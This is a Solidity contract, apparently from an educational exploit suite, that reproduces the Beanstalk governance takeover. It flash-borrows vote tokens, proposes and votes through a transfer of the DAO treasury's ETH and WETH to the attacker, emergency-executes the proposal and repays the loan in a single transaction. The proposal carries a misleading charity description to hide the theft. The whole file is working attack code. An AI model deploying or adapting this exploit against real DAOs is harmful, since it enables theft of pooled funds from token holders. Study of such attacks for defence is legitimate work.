// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "../interfaces/IERC20.sol";
import {IERC3156FlashBorrower} from "../interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "../interfaces/IERC3156FlashLender.sol";

/// @title IFlashGovernor
/// @notice The governor surface the takeover uses (VulnerableDAO's; SafeDAO
/// shares propose and vote but has no emergency path).
interface IFlashGovernor {
    function propose(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata calldatas,
        string calldata description
    ) external returns (uint256);
    function vote(uint256 id, bool support) external;
    function emergencyCommit(uint256 id) external;
}

/// @title GovernanceAttacker
/// @notice Re-creates the Beanstalk (2022) governance takeover: flash-borrow
/// a supermajority of the vote token, propose "send the treasury to the
/// attacker", vote for it, emergency-execute it and repay the loan, all in
/// one transaction.
contract GovernanceAttacker is IERC3156FlashBorrower {
    /// @notice The EOA that receives the treasury.
    address public immutable owner;
    /// @notice The flash lender holding the vote token.
    IERC3156FlashLender public immutable lender;
    /// @notice The vote token.
    IERC20 public immutable voteToken;
    /// @notice The DAO under attack.
    IFlashGovernor public immutable dao;
    /// @notice The treasury's ERC-20 (WETH) to drain besides ETH.
    IERC20 public immutable treasuryToken;

    /// @notice The caller is not the owner.
    error NotOwner();
    /// @notice onFlashLoan was not called by the lender for our own loan.
    error UntrustedLoan(address caller, address initiator);

    /// @param lender_ ERC-3156 lender of the vote token.
    /// @param voteToken_ The vote token.
    /// @param dao_ The target DAO.
    /// @param treasuryToken_ ERC-20 held by the treasury (WETH).
    constructor(IERC3156FlashLender lender_, IERC20 voteToken_, IFlashGovernor dao_, IERC20 treasuryToken_) {
        owner = msg.sender;
        lender = lender_;
        voteToken = voteToken_;
        dao = dao_;
        treasuryToken = treasuryToken_;
    }

    /// @notice Borrows `amount` vote tokens and takes over the DAO with them.
    /// @param amount Vote tokens to borrow (enough for a supermajority).
    function attack(uint256 amount) external {
        if (msg.sender != owner) revert NotOwner();
        lender.flashLoan(this, address(voteToken), amount, "");
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) revert UntrustedLoan(msg.sender, initiator);
        address[] memory targets = new address[](2);
        uint256[] memory values = new uint256[](2);
        bytes[] memory calldatas = new bytes[](2);
        // Action 1: all the treasury's ETH to the attacker.
        targets[0] = owner;
        values[0] = address(dao).balance;
        calldatas[0] = "";
        // Action 2: all the treasury's WETH to the attacker.
        targets[1] = address(treasuryToken);
        calldatas[1] = abi.encodeCall(IERC20.transfer, (owner, treasuryToken.balanceOf(address(dao))));

        uint256 id = dao.propose(targets, values, calldatas, "BIP-18: donate treasury to Ukraine relief");
        dao.vote(id, true);
        dao.emergencyCommit(id);

        IERC20(token).approve(address(lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
